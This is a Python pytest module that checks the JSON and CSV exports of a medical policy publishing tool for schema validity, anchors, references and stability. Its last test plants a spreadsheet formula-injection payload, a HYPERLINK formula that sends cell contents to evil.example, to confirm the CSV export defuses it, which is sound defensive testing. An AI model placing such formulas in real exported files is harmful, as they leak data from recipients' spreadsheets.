"""Machine-readable exports: valid against their schemas, consistent with the pages, stable."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest

from conftest import ROOT, copy_seed_project
from policypress.load.loader import load_project
from policypress.project import Project, ProjectLayout
from policypress.render.exports import SCHEMAS, export_files

NESTED = ROOT / "tests" / "fixtures" / "nested"


@pytest.fixture(scope="module")
def project(seed_project: Path) -> Project:
    """The repository reduced to the seed: the site-wide exports (codes, references) hold the seed's alone."""
    return load_project(ProjectLayout(seed_project))


@pytest.fixture(scope="module")
def files(project: Project) -> dict[str, str]:
    return export_files(project, "policies")


def test_every_json_export_validates_against_its_schema(files: dict[str, str]) -> None:
    schemas = {name: json.loads(files[f"api/schema/{name}"]) for name in SCHEMAS}
    jsonschema.validate(json.loads(files["api/policies.json"]), schemas["policies.schema.json"])
    jsonschema.validate(json.loads(files["api/codes.json"]), schemas["codes.schema.json"])
    jsonschema.validate(json.loads(files["api/policies/wa-cp-mp-166.json"]), schemas["policy.export.schema.json"])
    jsonschema.validate(json.loads(files["api/references.json"]), schemas["references.schema.json"])
    source_schema = json.loads(files["api/schema/policy.schema.json"])
    jsonschema.validate(json.loads(files["api/policies/wa-cp-mp-166.json"])["policy"], source_schema)


def test_policy_export_carries_resolved_references_and_anchors(files: dict[str, str]) -> None:
    data = json.loads(files["api/policies/wa-cp-mp-166.json"])
    assert data["summary"] == {
        "id": "WA.CP.MP.166",
        "title": "Sacroiliac Joint Interventions for Pain Management",
        "plan": "Coordinated Care Corporation",
        "effective_date": "2024-11-01",
        "last_review_date": None,
        "latest_revision": "2024-09",
        "page": "policies/wa-cp-mp-166/",
        "pdf": "pdf/wa-cp-mp-166.pdf",
        "data": "api/policies/wa-cp-mp-166.json",
    }
    assert [(c["label"], c["anchor"], c["determination"]) for c in data["criteria"]] == [
        ("I", "criterion-I", "not_medically_necessary"),
        ("II", "criterion-II", "not_medically_necessary"),
    ]
    assert [r["number"] for r in data["references"]] == list(range(1, 30))
    assert data["references"][23]["text"].startswith("Ho KY, Hadi MA, Pasutharnchat K, Tan KH. Cooled radiofrequency")
    assert data["policy"]["code_tables"][0]["rows"][1]["code"] == "64625"


def test_nested_criteria_anchors_match_the_page() -> None:
    project = load_project(ProjectLayout(NESTED))
    data = json.loads(export_files(project, "policies")["api/policies/xx-cp-mp-1.json"])
    anchors = []

    def walk(criteria: list[dict[str, object]]) -> None:
        for criterion in criteria:
            anchors.append(criterion["anchor"])
            walk(criterion["criteria"])  # type: ignore[arg-type]

    walk(data["criteria"])
    assert anchors == [
        "criterion-I",
        "criterion-I-A",
        "criterion-I-B",
        "criterion-I-B-1",
        "criterion-I-B-2",
        "criterion-I-B-2-a",
        "criterion-II",
    ]
    golden = (ROOT / "tests" / "golden" / "xx-cp-mp-1.md").read_text(encoding="utf-8")
    for anchor in anchors:
        assert f'id="{anchor}"' in golden


def test_codes_json_and_csv_link_to_the_row(files: dict[str, str]) -> None:
    codes = json.loads(files["api/codes.json"])["codes"]
    assert [(c["code"], c["link"]) for c in codes] == [
        ("64451", "policies/wa-cp-mp-166/#code-cpt-64451"),
        ("64625", "policies/wa-cp-mp-166/#code-cpt-64625"),
    ]
    assert codes[1]["table"] == "CPT code that does not support coverage criteria"
    rows = list(csv.DictReader(io.StringIO(files["api/codes.csv"])))
    assert [row["code"] for row in rows] == ["64451", "64625"]
    assert rows[0]["policy_id"] == "WA.CP.MP.166"
    assert files["api/codes.csv"].startswith(
        "code,first,last,code_system,meaning,description,notes,policy_id,policy_title,table,page,link\r\n"
    )


def test_exports_are_deterministic(project: Project, files: dict[str, str]) -> None:
    assert export_files(project, "policies") == files


def assert_published(site: Path, project: Project) -> None:
    """``site`` holds every export of ``project``, byte for byte."""
    files = export_files(project, "policies")
    assert "api/policies.json" in files
    for relative, content in files.items():
        assert (site / relative).read_bytes() == content.encode("utf-8"), relative


def test_the_built_site_publishes_the_exports(built_site: Path) -> None:
    assert_published(built_site, load_project(ProjectLayout(ROOT)))


def test_references_export_holds_each_listed_reference_once(files: dict[str, str]) -> None:
    entries = json.loads(files["api/references.json"])["references"]
    assert len(entries) == 29
    ho = next(entry for entry in entries if entry["key"] == "ho2013")
    assert ho["text"].startswith("Ho KY, Hadi MA")
    assert '<a href="https://doi.org/10.2147/JPR.S46827">' in ho["html"]


def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    root = copy_seed_project(tmp_path / "project")
    policy = root / "policy" / "wa-cp-mp-166.yaml"
    text = policy.read_text(encoding="utf-8").replace(
        "Radiofrequency ablation, nerves", '=HYPERLINK("https://evil.example/?x="&A1,"Click") *Radiofrequency* ablation'
    )
    policy.write_text(text, encoding="utf-8")
    files = export_files(load_project(ProjectLayout(root)), "policies")
    rows = list(csv.DictReader(io.StringIO(files["api/codes.csv"])))
    assert rows[1]["description"].startswith("'=HYPERLINK(")
    assert "*" not in rows[1]["description"]  # the code index carries the text, not its markup
    assert json.loads(files["api/codes.json"])["codes"][1]["description"].startswith("=HYPERLINK(")
